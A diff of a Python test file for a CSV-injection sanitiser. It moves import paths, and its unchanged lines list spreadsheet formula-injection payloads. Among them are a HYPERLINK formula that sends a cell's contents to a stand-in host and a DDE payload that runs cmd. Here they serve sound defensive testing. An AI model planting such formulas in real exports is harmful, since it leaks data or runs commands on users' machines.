@@ -17,7 +17,7 @@ import pandas as pd
 import pytest
 from fastapi.testclient import TestClient
 
-from serving.formulas import defuse
+from serving.documents.formulas import defuse
 from tests.store.api_client import bearer, token
 from tests.store.published import PASSWORD
 
@@ -26,7 +26,7 @@ pytestmark = pytest.mark.slow  # real weekly runs and an app on the shared publi
 WEEK = "2025-W45"
 # OWASP "CSV Injection": a cell starting with = + - @, a tab (0x09) or a carriage return (0x0D) is
 # read as a formula; WPS also takes the full-width forms. Written out here, not taken from
-# serving.formulas.TRIGGERS: a trigger dropped from the code must not drop out of the check too.
+# serving.documents.formulas.TRIGGERS: a trigger dropped from the code must not drop out of the check too.
 OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "＝1+1", " =1+1", "＋SUM(1,2)", "－2+3", "＠SUM(1+1)"]
@@ -37,12 +37,12 @@ ID_IN_LAND = "43312619700101777X"
 @pytest.fixture(scope="module")
 def hostile(small_county, fitted_champion, tmp_path_factory):
     """A published week whose every household carries a formula-like village, head name and phone."""
-    from serving.auth import create_user
-    from serving.history import import_history
-    from serving.jobs.week_run import week_cutoff
+    from features.weeks import week_cutoff
+    from serving.access.auth import create_user
     from serving.jobs.weekly import run_week
     from serving.settings import Settings
     from serving.store.database import get_engine, session_factory
+    from serving.weekly.history import import_history
 
     tmp = tmp_path_factory.mktemp("hostile")
     folder = tmp / "exports" / WEEK
@@ -98,7 +98,7 @@ def test_defuse_follows_owasp(trigger, lead):
 def test_defuse_leaves_plain_text_and_numbers_alone():
     for value in ("石门村", "a=b", "1-2", "x@y", "备注\t=1", -0.03, 12, None, ""):
         assert defuse(value) == value
-    from serving.formulas import defuse_frame
+    from serving.documents.formulas import defuse_frame
 
     frame = defuse_frame(pd.DataFrame({"＝村": ["＋1", "石门村"], "n": [-1.5, 2.0]}))
     assert list(frame.columns) == ["'＝村", "n"] and frame["'＝村"].tolist() == ["'＋1", "石门村"]
